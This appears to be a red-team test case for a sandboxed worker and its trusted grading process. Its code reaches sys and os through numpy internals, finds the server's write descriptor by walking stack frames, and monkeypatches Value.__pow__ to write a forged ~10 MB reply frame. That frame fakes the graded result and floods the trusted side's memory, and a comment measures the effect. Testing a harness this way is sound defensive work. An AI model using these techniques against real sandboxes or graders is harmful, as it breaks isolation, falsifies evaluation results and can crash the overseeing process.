# Value ** Value forges a reply on the wire to the trusted side: it finds the worker's Server
# (and its write descriptor) by walking up the stack with sys._getframe().f_back, and writes one
# frame of ~10 MB whose JSON header is a list of a million tiny tagged values. The trusted side
# must survive it and grade the operation as what it is (a returned value, not the TypeError
# the test expects).
# NOTE (reported, not asserted: the red team cannot see the trusted process's memory): the trusted
# side accepts frames up to codec.MAX_FRAME_BYTES = 1 GiB from the worker and JSON-decodes them
# whole; measured, a 31.5 MB frame of {"L":[]} items raised the trusted pytest process's peak
# RSS to 1.2 GB (x38), so a 1 GiB frame would need ~40 GB: the worker's 512 MiB memory limit does
# not bound what it can make the trusted side allocate.
import numpy as _np

_honest_pow = Value.__pow__


def _flood():
    sys = _np._core.numeric.sys
    os = _np.lib._utils_impl.os
    frame, server = sys._getframe(), None
    while frame is not None and server is None:
        candidate = frame.f_locals.get("self")
        server = candidate if hasattr(candidate, "wfd") else None
        frame = frame.f_back
    items = 1_000_000
    body = b'{"op":"reply","ok":{"L":[' + b'{"L":[]},' * items + b'{"L":[]}]}}'
    os.write(server.wfd, sys.modules["struct"].pack("<II", len(body), 0))
    view = memoryview(body)
    while view:
        view = view[os.write(server.wfd, view[: 1 << 20]) :]
    return Value(1.0)  # never read: the forged frame was taken as the reply


def _flooding_pow(self, k):
    if isinstance(k, Value):
        return _flood()
    return _honest_pow(self, k)


Value.__pow__ = _flooding_pow
